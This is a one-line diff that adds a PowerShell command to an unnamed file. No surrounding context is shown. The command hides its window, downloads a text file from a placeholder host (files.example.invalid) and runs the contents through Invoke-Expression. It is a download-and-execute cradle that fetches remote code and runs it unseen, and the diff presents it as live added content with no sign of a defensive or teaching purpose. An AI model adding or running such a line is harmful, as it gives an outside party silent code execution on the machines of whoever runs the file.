@@ -1,0 +1,1 @@
+powershell.exe -WindowStyle Hidden -c "iwr https://files.example.invalid/a.txt | iex"
